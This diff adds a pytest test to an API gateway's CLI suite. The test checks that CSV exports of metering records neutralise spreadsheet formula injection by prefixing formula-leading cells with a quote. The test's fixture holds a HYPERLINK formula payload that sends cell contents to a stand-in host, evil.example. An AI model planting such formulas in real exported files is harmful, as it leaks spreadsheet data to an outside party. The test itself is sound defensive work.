@@ -11,10 +11,15 @@ import sys
 from pathlib import Path
 
 import yaml
+from redis.asyncio import Redis
 
+from gateway.limits.limiter import Limiter
 from gateway.metering.ledger import FIELDS, iso_ms
+from gateway.metering.metrics import Metrics
+from gateway.metering.settle_queue import Settlement, SettleQueue
+from gateway.redisdb.keys import RedisKeys
 from tests.admin.test_usage_api import seed
-from tests.metering.test_ledger import DAY, T0
+from tests.metering.test_ledger import DAY, T0, settlement
 from tests.support.procs import free_port
 
 ROOT = str(Path(__file__).resolve().parents[2])
@@ -68,3 +73,21 @@ def test_bad_arguments_exit_2_and_redis_down_exits_1(redis_url: str, tmp_path: P
     down = gateway("totals", "--user", "alice", "--period", DAY, redis_url=f"redis://127.0.0.1:{free_port()}/0",
                    config=cfg)
     assert down.returncode == 1 and "Redis unavailable" in down.stderr
+
+
+async def test_export_csv_holds_no_formula_cell(redis_url: str, tmp_path: Path) -> None:
+    # A record written before size and quality were checked for every model (or by a future field).
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")'
+    s = settlement("old-1", "alice", T0)
+    client = Redis.from_url(redis_url)
+    try:
+        queue = SettleQueue(Limiter(client, RedisKeys(), lease_ms=60_000), Metrics(), redis=client)
+        await queue.settle(Settlement(s.admission, s.usage, {**s.record, "size": formula, "quality": "-1+2"}))
+    finally:
+        await client.aclose()
+    out = gateway("export", "--from", iso_ms(T0 - 1000), "--to", iso_ms(T0 + 1000), "--format", "csv",
+                  redis_url=redis_url, config=write_config(tmp_path))
+    assert out.returncode == 0, out.stderr
+    header, row = list(csv.reader(io.StringIO(out.stdout, newline="")))
+    assert row[header.index("size")] == "'" + formula and row[header.index("quality")] == "'-1+2"
+    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
